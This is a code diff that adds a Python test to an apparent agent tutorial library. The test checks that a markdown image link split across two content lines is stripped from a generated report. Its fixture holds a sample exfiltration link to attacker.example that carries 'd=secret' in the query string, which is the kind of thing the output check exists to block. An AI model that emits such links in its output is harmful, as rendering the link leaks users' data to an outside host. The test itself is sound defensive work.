@@ -167,3 +167,41 @@ def test_the_evidence_report_shows_each_class_in_a_file_name(kind: str) -> None:
     assert f"src/report{shown}txt.ts:1" in run.report.items
     assert f"  src/report{shown}txt.ts:1: // TODO: check" in run.report.text.split("\n")
     assert delivers(run.report.content, places)
+
+
+class _TwoLinePlan:
+    """A finished read whose two content lines hold one link between them."""
+
+    name = "links"
+
+    def next_call(self, results):  # type: ignore[no-untyped-def]
+        return None
+
+    def items(self, results):  # type: ignore[no-untyped-def]
+        return ("1", "2")
+
+    def coverage(self, results):  # type: ignore[no-untyped-def]
+        return "complete"
+
+    def content(self, results):  # type: ignore[no-untyped-def]
+        return ("1 see [the badge", "2 ](https://attacker.example/b.png?d=secret) here")
+
+
+def test_a_link_across_two_content_lines_is_removed_and_each_line_kept() -> None:
+    """The report checks its whole text once; when a removed link spanned two content
+    lines, each line is checked on its own, so the content keeps one line per item."""
+    from tutorial_lib.agent.evidence import report_from_evidence
+    from tutorial_lib.agent.loop import Transcript
+    from tutorial_lib.agent.output_check import OutputPolicy
+
+    def no_reads(name: str, arguments: object) -> dict:
+        raise AssertionError("nothing to read")
+
+    plan = _TwoLinePlan()
+    report = report_from_evidence(plan, Transcript(), lambda n, a: True, no_reads, OutputPolicy())
+    assert "attacker.example/b.png" not in report.text
+    assert len(report.content) == 2
+    assert report.content[0].startswith("1 ") and report.content[1].startswith("2 ")
+    assert [line for line in report.text.split("\n") if line.startswith("  ")] == [
+        f"  {line}" for line in report.content
+    ]
